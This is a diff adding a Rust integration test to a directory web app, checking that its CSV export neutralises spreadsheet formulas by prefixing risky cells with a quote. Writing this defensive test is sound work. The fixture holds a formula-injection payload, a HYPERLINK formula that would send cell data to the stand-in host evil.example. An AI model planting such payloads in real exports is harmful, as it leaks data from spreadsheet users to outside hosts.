@@ -270,6 +270,35 @@ async fn csv_export_parses_back_with_accents(app: TestApp) {
     assert_eq!(&poesie[1], "Maison de la poésie");
 }
 
+/// A name typed as a formula comes out of the CSV as text: Excel and LibreOffice will not run it.
+async fn csv_cells_that_look_like_formulas_are_neutralised(app: TestApp) {
+    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";
+    sqlx::query("UPDATE structures SET name = $1, offer = $2, phone = $3 WHERE slug = 'maison-de-la-poesie'")
+        .bind(hostile)
+        .bind("@SUM(1+1)")
+        .bind("+33 3 53 73 00 00")
+        .execute(&app.db.pool)
+        .await
+        .unwrap();
+    let bytes = app.get("/annuaire.csv").await.bytes().await.unwrap();
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let headers = reader.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let row = reader
+        .records()
+        .map(Result::unwrap)
+        .find(|r| &r[0] == "maison-de-la-poesie")
+        .unwrap();
+    assert_eq!(&row[column("nom")], format!("'{hostile}"));
+    assert_eq!(&row[column("offre")], "'@SUM(1+1)");
+    assert_eq!(&row[column("telephone")], "'+33 3 53 73 00 00");
+    assert_eq!(
+        &row[column("commune")],
+        "Beuvry",
+        "ordinary cells untouched"
+    );
+}
+
 async fn json_export_matches_the_search(app: TestApp) {
     let response = app.get("/annuaire.json?q=recycl").await;
     assert_eq!(response.headers()["content-type"], "application/json");
@@ -360,6 +389,7 @@ on_both_databases!(
     drafts_are_neither_listed_nor_shown,
     entry_page_shows_public_fields_and_json_ld,
     csv_export_parses_back_with_accents,
+    csv_cells_that_look_like_formulas_are_neutralised,
     json_export_matches_the_search,
     sector_filter_agrees_with_the_sector_table,
     demo_directory_seed_is_idempotent,
